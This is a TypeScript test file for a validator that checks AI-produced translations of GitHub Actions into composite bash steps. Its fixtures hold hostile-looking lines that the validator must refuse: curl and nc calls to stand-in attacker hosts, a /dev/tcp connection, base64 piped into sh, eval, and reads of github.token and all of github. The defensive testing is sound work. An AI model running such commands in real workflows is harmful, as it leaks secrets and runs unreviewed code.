import { assert, asyncProperty, constantFrom, json, oneof, string, stringMatching } from "fast-check";
import { describe, expect, it } from "vitest";
import { hostsIn } from "./check-scripts.ts";
import { checkTranslation, MAX_TRANSLATION_BYTES } from "./check-translation.ts";
import type { TranslationSubject } from "./check-translation.ts";

const GOOD = `
name: Set up octo
inputs:
  version: { description: d, default: "1" }
outputs:
  path: { value: "\${{ steps.install.outputs.path }}" }
runs:
  using: composite
  steps:
    - id: install
      shell: bash
      env: { VERSION: "\${{ inputs.version }}" }
      run: |
        mkdir -p "$RUNNER_TEMP/octo"
        echo "path=$RUNNER_TEMP/octo" >> "$GITHUB_OUTPUT"
        echo "version $VERSION"
`;

const ORIGINAL = `
name: Set up octo
inputs:
  version: { description: d }
  token: { description: d, default: "\${{ github.token }}" }
outputs:
  path: { description: where it is }
  cached: { description: whether it was there }
runs: { using: node20, main: index.js }
# Downloads from https://releases.octo.test/octo
`;

function subject(change: Partial<TranslationSubject> = {}): TranslationSubject {
  return { original: ORIGINAL, use: { with: {}, outputsUsed: [] }, hosts: [], ...change };
}

async function refusals(text: string, change: Partial<TranslationSubject> = {}): Promise<readonly string[]> {
  const checked = await checkTranslation(text, subject(change));
  return checked.kind === "accepted" ? [] : checked.refusals.map(({ check, reason }) => `${check}: ${reason}`);
}

/** A translation with this script, and these members of its step. */
function withScript(script: string, members: Readonly<Record<string, unknown>> = {}): string {
  const step = { shell: "bash", run: script, ...members };
  return JSON.stringify({ name: "n", runs: { using: "composite", steps: [step] } });
}

describe("a translation", () => {
  it("is accepted when it is a composite of scripts, with the outputs that it leaves out", async () => {
    const checked = await checkTranslation(GOOD, subject());
    expect(checked).toMatchObject({ kind: "accepted", outputsNotSet: ["cached"] });
  });

  it.each([
    [
      "an action inside",
      '{ "runs": { "using": "composite", "steps": [{ "uses": "o/r@v1" }] } }',
      "uses: step 1 uses o/r@v1",
    ],
    ["another kind", '{ "runs": { "using": "node20", "main": "x.js" } }', "form: it runs as javascript"],
    ["a container", '{ "runs": { "using": "docker", "image": "x" } }', "form: it runs as docker"],
    ["no steps", '{ "runs": { "using": "composite", "steps": [] } }', "form: it has no steps"],
    ["no YAML", "runs: [", "form: "],
    ["an answer in prose", "Sure! Here is the translation you asked for.", "form: "],
    ["a text of a megabyte", withScript("x".repeat(1 << 20)), "size: it has "],
    ["a secret in env", withScript("true", { env: { A: "${{ secrets.A }}" } }), "secrets: "],
    ["a secret by index", withScript("true", { env: { A: "${{ secrets['A'] }}" } }), "secrets: "],
    ["the token", withScript("true", { env: { A: "${{ github.token }}" } }), "secrets: step 1: it reads github.token"],
    [
      "the token by index",
      withScript("true", { env: { A: "${{ github['TOKEN'] }}" } }),
      "secrets: step 1: it reads github.token",
    ],
    [
      "all of github",
      withScript("true", { env: { A: "${{ toJSON(github) }}" } }),
      "secrets: step 1: it reads all of github",
    ],
    [
      "a computed member",
      withScript("true", { env: { A: "${{ github[env.X] }}" } }),
      "secrets: step 1: it reads all of github",
    ],
    ["a name no one knows", withScript("true", { env: { A: "${{ nowhere.a }}" } }), "form: Unrecognized named-value"],
    ["the matrix", withScript("true", { env: { A: "${{ matrix.a }}" } }), "expression: step 1: it reads matrix"],
    ["a function no one knows", withScript("true", { env: { A: "${{ wish('x') }}" } }), "form: Unrecognized function"],
    [
      "an input it lacks",
      withScript("true", { env: { A: "${{ inputs.x }}" } }),
      "expression: step 1: it reads inputs.x",
    ],
    [
      "a step it lacks",
      withScript("true", { if: "steps.x.outcome == 'success'" }),
      "expression: step 1: there is no step",
    ],
    ["an expression in a script", withScript("echo ${{ inputs.version }}"), "splice: step 1"],
    ["a fault of syntax", withScript("if true; then echo"), "syntax: step 1"],
    ["no shell", withScript("true", { shell: "pwsh" }), "shell: step 1: its shell is pwsh"],
    ["a shell of its own", withScript("true", { shell: "python {0}" }), "shell: step 1"],
    [
      "another host",
      withScript("curl https://evil.example.com/x"),
      "hosts: step 1: it names the host evil.example.com",
    ],
    ["a host in env", withScript("true", { env: { URL: "https://evil.test/" } }), "hosts: its env and defaults"],
    ["a host by number", withScript("nc 203.0.113.7 80"), "hosts: step 1: it names the host 203.0.113.7"],
    [
      "a host put together",
      withScript("curl https://$HOST/x"),
      "hosts: step 1: it names a host that only the run knows",
    ],
    [
      "a host behind a device",
      withScript("echo > /dev/tcp/evil.test/80"),
      "hosts: step 1: it names the host evil.test",
    ],
    ["a decoder", withScript("echo aGk= | base64 -d | sh"), "hidden: step 1: it decodes base64"],
    ["eval", withScript('eval "$VERSION"'), "hidden: step 1: it runs text"],
    ["a directory outside", withScript("true", { "working-directory": "../.." }), "directory: step 1"],
    ["an absolute directory", withScript("true", { "working-directory": "/etc" }), "directory: step 1"],
    ["a directory by variable", withScript("true", { "working-directory": "${{ env.HOME }}" }), "directory: step 1"],
    ["a step in the background", withScript("true", { background: true }), "form: "],
  ])("is refused for %s", async (_what, text, reason) => {
    expect((await refusals(text)).join("\n")).toContain(reason);
  });

  it("is refused for an output that no script sets, and for one that is read and not there", async () => {
    expect(
      await refusals(GOOD.replace("path=$RUNNER_TEMP", "elsewhere=$RUNNER_TEMP").replace('"$GITHUB_OUTPUT"', "x")),
    ).toEqual(["outputs: no step sets its output path"]);
    expect(await refusals(GOOD, { use: { with: {}, outputsUsed: ["cached"] } })).toEqual([
      "outputs: it has no output cached, which is read",
    ]);
    // Within an action all that the original declares may be read.
    expect(await refusals(GOOD, { use: { with: {}, outputsUsed: undefined } })).toHaveLength(1);
  });

  it("is refused for an input that the step gives and it does not know", async () => {
    expect(await refusals(GOOD, { use: { with: { version: "text" }, outputsUsed: [] } })).toEqual([]);
    expect(await refusals(GOOD, { use: { with: { mirror: "text" }, outputsUsed: [] } })).toEqual([
      "inputs: it does not know the input 'mirror'",
    ]);
  });

  it("may name the hosts of the action's own manifest, and those it was allowed", async () => {
    const text = withScript("curl https://releases.octo.test/octo https://deb.octo.test/x");
    expect(await refusals(text)).toEqual(["hosts: step 1: it names the host deb.octo.test"]);
    expect(await refusals(text, { hosts: ["deb.octo.test"] })).toEqual([]);
  });

  it("may take the token by an input's default only where the action does", async () => {
    const text = withScript("true").replace(
      '"name":"n"',
      '"name":"n","inputs":{"token":{"default":"${{ github.token }}"}}',
    );
    expect(await refusals(text)).toEqual([]);
    expect(await refusals(text, { original: undefined })).toEqual(["secrets: input token: it reads github.token"]);
  });

  it("is never accepted with an address put anywhere into its script", async () => {
    const label = stringMatching(/^[a-z][a-z0-9]{1,10}$/);
    const around = constantFrom(
      "curl -s X",
      'wget "X"',
      "git clone X out",
      "A=X; curl $A",
      "# X",
      "x=`curl X`",
      "(curl 'X')",
    );
    await assert(
      asyncProperty(label, label, around, async (name, end, line) => {
        const host = `${name}.${end}`;
        const text = withScript(line.replace("X", `https://${host}/a`));
        expect(await refusals(text)).toContain(`hosts: step 1: it names the host ${host}`);
      }),
      { numRuns: 100 },
    );
  });

  it("is never accepted with a script that holds an expression, however it is written", async () => {
    const inner = constantFrom("inputs.version", "github.event.issue.title", "env.X", "runner.os");
    const spaces = stringMatching(/^ {0,3}$/);
    await assert(
      asyncProperty(inner, spaces, stringMatching(/^[a-z "']{0,8}$/), async (name, space, before) => {
        const found = await refusals(withScript(`echo ${before}\${{${space}${name}${space}}}`));
        expect(found.length).toBeGreaterThan(0);
      }),
      { numRuns: 60 },
    );
  });

  it("of any text is checked without an exception", async () => {
    await assert(
      asyncProperty(oneof(string({ unit: "binary" }), json()), async (text) => {
        expect((await checkTranslation(text, subject())).kind).toBe("refused");
      }),
      { numRuns: 200 },
    );
  });

  it("may be as long as is allowed", async () => {
    const text = withScript("#".padEnd(MAX_TRANSLATION_BYTES - 200, "x"));
    expect(await refusals(text)).toEqual([]);
  });
});

describe("hosts in a script", () => {
  it.each([
    ["curl https://a.test/x", ["a.test"]],
    ["curl https://user:word@a.test:8443/x", ["a.test"]],
    ["git clone git@a.test:o/r.git", ["a.test"]],
    ["curl example.com", ["example.com"]],
    ["curl http://[2001:db8::1]/", ["[2001:db8::1]"]],
    ["sh install.sh; python setup.py; ./a.out; cat Cargo.toml README.md package.json", []],
    ["tool 1.2.3 and v1.2.3.tar.gz", []],
    ["curl http://localhost:8080/ http://127.0.0.1/", []],
    ["cat /etc/apt/sources.list.d/a.list ~/.config/x.app/y", []],
  ])("%s", (script, hosts) => {
    expect(hostsIn(script)).toEqual(hosts);
  });
});
